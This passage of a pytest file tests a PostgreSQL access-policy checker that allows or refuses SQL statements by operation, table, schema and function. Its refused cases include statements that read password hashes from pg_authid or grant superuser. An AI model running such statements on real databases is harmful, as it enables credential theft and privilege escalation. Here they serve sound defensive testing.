    pytest.param("SELECT * FROM orders TABLESAMPLE BERNOULLI (10) REPEATABLE (42)",
                 id="tablesample-bernoulli"),
    pytest.param("SELECT count(*) FROM orders TABLESAMPLE pg_catalog.system (5)",
                 id="tablesample-system"),
    pytest.param("WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) "
                 "SEARCH DEPTH FIRST BY n SET ord CYCLE n SET seen USING path "
                 "SELECT n FROM t ORDER BY ord", id="recursive-cte-search-cycle"),
    pytest.param('SELECT name COLLATE "C", make_interval(days => 3), NULL, B\'101\', 1.5, '
                 "true, tags[1:2] FROM customers, products", id="collate-named-arg-literals"),
    pytest.param("SELECT * FROM ROWS FROM (generate_series(1, 3)) WITH ORDINALITY AS g(v, i)",
                 id="rows-from-ordinality"),
    pytest.param("SELECT status, count(*) FROM orders GROUP BY CUBE (status), ()",
                 id="cube"),
    pytest.param("SELECT sum(total) OVER (ORDER BY created_at ROWS BETWEEN 2 PRECEDING "
                 "AND CURRENT ROW), ARRAY(SELECT id FROM customers), ROW(1, 2) IS NOT NULL, "
                 "total IS NOT DISTINCT FROM 0, (total > 0) IS TRUE FROM orders",
                 id="frames-arrays-rows-tests"),
    pytest.param("SELECT r.a, r.b FROM customers c, "
                 "jsonb_to_record(c.metadata) AS r(a int, b text) "
                 "WHERE tags && ARRAY['sale', 'new'] AND r.a = ANY (ARRAY[1, 2])",
                 id="column-definition-list-and-arrays"),
]


@pytest.mark.parametrize("sql", LEGITIMATE)
def test_legitimate_query_passes(sql: str) -> None:
    checked = check_sql(sql, SHOP)
    assert checked.operation == "SELECT"
    assert not checked.writes
    assert checked.tables <= SHOP.allowed_tables


def test_checked_statement_reports_tables_and_functions() -> None:
    checked = check_sql(
        "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') "
        "SELECT c.name, count(*) FROM recent r JOIN customers c ON c.id = r.customer_id "
        "CROSS JOIN analytics.order_metrics GROUP BY c.name", SHOP)
    assert checked == CheckedStatement(
        operation="SELECT",
        tables=frozenset({("public", "orders"), ("public", "customers"),
                          ("analytics", "order_metrics")}),
        functions=frozenset({"now", "count"}),
        writes=False,
    )


def test_unicode_escaped_identifier_resolves_like_postgres() -> None:
    checked = check_sql('SELECT * FROM U&"\\006Frders"', SHOP)
    assert checked.tables == {("public", "orders")}


def test_quoted_name_keeps_case_and_unquoted_folds() -> None:
    policy = AccessPolicy(allowed_tables=frozenset({("public", "Orders")}))
    assert check_sql('SELECT * FROM "Orders"', policy).tables == {("public", "Orders")}
    assert refused("SELECT * FROM Orders", policy).reason == table("Orders".lower())


# --- write policies -------------------------------------------------------------------------

WRITER = AccessPolicy(
    allowed_operations=frozenset({"SELECT", "INSERT", "UPDATE", "DELETE"}),
    allowed_tables=SHOP.allowed_tables,
)
INSERT_ONLY = AccessPolicy(allowed_operations=frozenset({"SELECT", "INSERT"}),
                           allowed_tables=SHOP.allowed_tables)


@pytest.mark.parametrize(("sql", "operation", "policy"), [
    pytest.param("INSERT INTO orders (customer_id, total) VALUES (1, 9.5) RETURNING id",
                 "INSERT", INSERT_ONLY, id="insert-returning"),
    pytest.param("INSERT INTO orders (customer_id, total) SELECT id, 0 FROM customers",
                 "INSERT", INSERT_ONLY, id="insert-select"),
    pytest.param("INSERT INTO orders (id) VALUES (1) ON CONFLICT DO NOTHING",
                 "INSERT", INSERT_ONLY, id="on-conflict-do-nothing"),
    pytest.param("INSERT INTO orders (id, total) VALUES (1, 2) ON CONFLICT (id) "
                 "DO UPDATE SET total = EXCLUDED.total", "INSERT", WRITER,
                 id="on-conflict-do-update"),
    pytest.param("UPDATE orders SET status = 'shipped' WHERE id = 1 RETURNING *",
                 "UPDATE", WRITER, id="update-returning"),
    pytest.param("UPDATE orders o SET total = c.credit FROM customers c "
                 "WHERE c.id = o.customer_id", "UPDATE", WRITER, id="update-from"),
    pytest.param("DELETE FROM orders o USING customers c WHERE c.id = o.customer_id "
                 "AND c.deleted RETURNING o.id", "DELETE", WRITER, id="delete-using"),
    pytest.param("INSERT INTO orders (id, total) VALUES (DEFAULT, 1)", "INSERT", INSERT_ONLY,
                 id="insert-default"),
    pytest.param("UPDATE orders SET (status, total) = (SELECT 'paid', 0), note = DEFAULT "
                 "WHERE id = 1", "UPDATE", WRITER, id="update-multi-assign"),
    pytest.param("UPDATE orders SET total = 0 WHERE id = 1 RETURNING OLD.total, NEW.total",
                 "UPDATE", WRITER, id="returning-old-new"),
    pytest.param("DELETE FROM orders WHERE id = 1 RETURNING WITH (OLD AS o) o.total",
                 "DELETE", WRITER, id="returning-with-alias"),
    pytest.param("WITH orders AS (SELECT 1 AS id) DELETE FROM orders WHERE id = 1",
                 "DELETE", WRITER, id="delete-target-named-like-cte"),
])
def test_allowed_write(sql: str, operation: str, policy: AccessPolicy) -> None:
    checked = check_sql(sql, policy)
    assert checked.operation == operation
    assert checked.writes
    assert ("public", "orders") in checked.tables


@pytest.mark.parametrize(("sql", "policy", "reason"), [
    pytest.param("INSERT INTO secrets (x) VALUES (1)", INSERT_ONLY, table("secrets"),
                 id="insert-unlisted-table"),
    pytest.param("INSERT INTO orders (note) SELECT rolpassword FROM pg_authid", INSERT_ONLY,
                 table("pg_authid"), id="insert-select-from-catalog"),
    pytest.param("INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET total = 0",
                 INSERT_ONLY, op("UPDATE"), id="on-conflict-update-needs-update"),
    pytest.param("UPDATE orders SET total = 0", INSERT_ONLY, op("UPDATE"), id="update-not-listed"),
    pytest.param("DELETE FROM orders", INSERT_ONLY, op("DELETE"), id="delete-not-listed"),
    pytest.param("WITH d AS (DELETE FROM orders RETURNING id) INSERT INTO orders (id) "
                 "SELECT id FROM d", INSERT_ONLY, op("DELETE"), id="delete-cte-inside-insert"),
    # The executor commits only a top-level write, so a nested one would silently roll back.
    pytest.param("WITH d AS (DELETE FROM orders WHERE total = 0 RETURNING id) "
                 "SELECT count(*) FROM d", WRITER, op("DELETE inside WITH"),
                 id="data-modifying-cte"),
    pytest.param("WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT * FROM i",
                 INSERT_ONLY, op("INSERT inside WITH"), id="insert-cte-under-select"),
    pytest.param("SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING *) "
                 "SELECT * FROM d) s", WRITER, op("DELETE inside WITH"),
                 id="delete-cte-in-subquery"),
    pytest.param("WITH d AS (DELETE FROM orders RETURNING id) INSERT INTO orders (id) "
                 "SELECT id FROM d", WRITER, op("DELETE inside WITH"),
                 id="delete-cte-inside-insert-all-writes"),
    pytest.param("WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) "
                 "INSERT INTO order_items (order_id) SELECT id FROM i", INSERT_ONLY,
                 op("INSERT inside WITH"), id="insert-cte-inside-insert"),
    pytest.param("WITH u AS (UPDATE orders SET total = 0 RETURNING id) UPDATE customers "
                 "SET note = 'x' WHERE id IN (SELECT id FROM u)", WRITER,
                 op("UPDATE inside WITH"), id="update-cte-inside-update"),
    pytest.param("WITH u AS (UPDATE orders SET total = 0 RETURNING id) INSERT INTO orders "
                 "(id) SELECT id FROM u", INSERT_ONLY, op("UPDATE"),
                 id="policy-check-comes-before-nesting-check"),
    pytest.param("WITH i AS (INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE "
                 "SET total = 0 RETURNING id) DELETE FROM orders WHERE id IN (SELECT id FROM i)",
                 WRITER, op("INSERT inside WITH"), id="upsert-cte-inside-delete"),
    pytest.param("UPDATE orders SET note = xmlelement(name x, 1)::text", WRITER,
                 syntax("XmlExpr"), id="xml-in-update"),
    pytest.param("INSERT INTO orders (note) SELECT JSON_VALUE(metadata, '$.x') FROM customers",
                 WRITER, syntax("JsonFuncExpr"), id="json-function-in-insert"),
    pytest.param("DELETE FROM orders WHERE CURRENT OF c", WRITER, syntax("CurrentOfExpr"),
                 id="where-current-of"),
    pytest.param("UPDATE pg_catalog.pg_authid SET rolsuper = true", WRITER,
                 table("pg_catalog.pg_authid"), id="update-catalog"),
    pytest.param("DELETE FROM orders USING pg_roles r WHERE true", WRITER, table("pg_roles"),
                 id="delete-using-catalog"),
    pytest.param("UPDATE orders SET note = current_setting('role')", WRITER,
                 fn("current_setting"), id="update-set-function"),
    pytest.param("INSERT INTO orders (id) VALUES (nextval('orders_id_seq'))", WRITER,
                 fn("nextval"), id="insert-values-function"),
    pytest.param("DELETE FROM orders RETURNING version()", WRITER, fn("version"),
                 id="returning-function"),
    pytest.param("WITH secrets AS (SELECT 1 AS id) DELETE FROM secrets", WRITER,
                 table("secrets"), id="delete-target-is-never-a-cte"),
    pytest.param("MERGE INTO orders o USING customers c ON o.customer_id = c.id "
                 "WHEN MATCHED THEN UPDATE SET total = 0", WRITER, op("MERGE"),
                 id="merge-even-with-all-writes"),
])
def test_refused_write(sql: str, policy: AccessPolicy, reason: str) -> None:
    assert refused(sql, policy).reason == reason


def test_nested_write_is_an_operation_refusal_and_writes_means_top_level() -> None:
    error = refused("WITH d AS (DELETE FROM orders RETURNING id) SELECT * FROM d", WRITER)
    assert (error.reason, error.category) == (op("DELETE inside WITH"), "operation")
    assert not check_sql("SELECT * FROM orders", WRITER).writes
    assert check_sql("WITH c AS (SELECT id FROM customers) DELETE FROM orders "
                     "WHERE customer_id IN (SELECT id FROM c)", WRITER).writes


WRITE_ONLY = AccessPolicy(allowed_operations=frozenset({"INSERT"}),
                          allowed_tables=SHOP.allowed_tables)


@pytest.mark.parametrize("sql", [
    "SELECT 1",
    "TABLE orders",
    "INSERT INTO orders (customer_id) SELECT id FROM customers",
    "INSERT INTO orders (customer_id) VALUES ((SELECT max(id) FROM customers))",
    "WITH c AS (SELECT id FROM customers) INSERT INTO orders (customer_id) TABLE c",
])
def test_reading_needs_select(sql: str) -> None:
    assert refused(sql, WRITE_ONLY).reason == op("SELECT")


def test_insert_values_needs_no_select() -> None:
    checked = check_sql("INSERT INTO orders (customer_id, total) VALUES (1, 2), (3, 4)",
                        WRITE_ONLY)
    assert checked == CheckedStatement("INSERT", frozenset({("public", "orders")}),
                                       frozenset(), True)


# --- allowed_tables=None ("*") --------------------------------------------------------------

ALL_PUBLIC_AND_ANALYTICS = AccessPolicy(allowed_schemas=("public", "analytics"))


@pytest.mark.parametrize(("sql", "tables"), [
    ("SELECT * FROM anything", {("public", "anything")}),
    ("SELECT * FROM public.whatever JOIN analytics.events ON true",
     {("public", "whatever"), ("analytics", "events")}),
    ("SELECT * FROM events e, analytics.events a", {("public", "events"), ("analytics", "events")}),
])
def test_star_allows_every_table_in_allowed_schemas(sql: str, tables: set) -> None:
    assert check_sql(sql, ALL_PUBLIC_AND_ANALYTICS).tables == tables


@pytest.mark.parametrize(("sql", "reason"), [
    ("SELECT * FROM other.t", table("other.t")),
    ("SELECT * FROM pg_class", table("pg_class")),
    ("SELECT * FROM pg_catalog.pg_class", table("pg_catalog.pg_class")),
    ("SELECT * FROM information_schema.columns", table("information_schema.columns")),
])
def test_star_still_refuses_other_schemas(sql: str, reason: str) -> None:
    assert refused(sql, ALL_PUBLIC_AND_ANALYTICS).reason == reason


def test_unqualified_name_resolves_to_first_allowed_schema() -> None:
    policy = AccessPolicy(allowed_schemas=("analytics", "public"))
    assert check_sql("SELECT * FROM events", policy).tables == {("analytics", "events")}


def test_catalog_allowed_only_when_policy_says_so() -> None:
    policy = AccessPolicy(allowed_schemas=("public", "pg_catalog"))
    assert check_sql("SELECT * FROM pg_class", policy).tables == {("pg_catalog", "pg_class")}
    listed = AccessPolicy(allowed_tables=frozenset({("information_schema", "columns")}))
    assert check_sql("SELECT * FROM information_schema.columns", listed).tables == {
        ("information_schema", "columns")}
    assert refused("SELECT * FROM information_schema.tables", listed).reason == table(
        "information_schema.tables")


def test_listed_table_outside_allowed_schemas_is_allowed() -> None:
    checked = check_sql("SELECT * FROM analytics.order_metrics", SHOP)
    assert checked.tables == {("analytics", "order_metrics")}


# --- AccessPolicy ---------------------------------------------------------------------------

def test_default_policy_is_select_on_public() -> None:
    policy = AccessPolicy()
    assert policy.allowed_operations == {"SELECT"}
    assert policy.default_schema == "public"
    assert check_sql("SELECT * FROM anything", policy).tables == {("public", "anything")}
    assert refused("DELETE FROM anything", policy).reason == op("DELETE")
    hash(policy)


def test_policy_rejects_unknown_operation() -> None:
    with pytest.raises(ValueError):
        AccessPolicy(allowed_operations=frozenset({"DROP"}))


@pytest.mark.parametrize("tables", [["*"], ["*", "orders"]])
def test_from_config_star(tables: list[str]) -> None:
    policy = AccessPolicy.from_config(tables, ["public", "analytics"], ["select"])
    assert policy == AccessPolicy(frozenset({"SELECT"}), ("public", "analytics"), None)
    assert check_sql("SELECT * FROM analytics.anything", policy).tables == {
        ("analytics", "anything")}


def test_from_config_named_tables_bare_means_public() -> None:
    policy = AccessPolicy.from_config(["orders", "analytics.order_metrics", ' "Mixed" '],
                                      ["analytics"], ["SELECT", "insert"])
    assert policy.allowed_tables == {("public", "orders"), ("analytics", "order_metrics"),
                                     ("public", "Mixed")}
    assert policy.allowed_operations == {"SELECT", "INSERT"}
    assert check_sql("SELECT * FROM public.orders", policy).tables == {("public", "orders")}
    # Unqualified names resolve to the first allowed schema, which is analytics here.
    assert refused("SELECT * FROM orders", policy).reason == table("orders")


def test_from_config_defaults() -> None:
    policy = AccessPolicy.from_config([], [], [])
    assert policy.allowed_operations == {"SELECT"}
    assert policy.allowed_schemas == ("public",)
    assert policy.allowed_tables == frozenset()
    assert refused("SELECT * FROM orders", policy).reason == table("orders")


@pytest.mark.parametrize(("tables", "operations"), [
    (["a.b.c"], ["SELECT"]),
    (["orders"], ["SELECT", "DROP"]),
])
def test_from_config_rejects_bad_values(tables: list, operations: list) -> None:
    with pytest.raises(ValueError):
        AccessPolicy.from_config(tables, ["public"], operations)
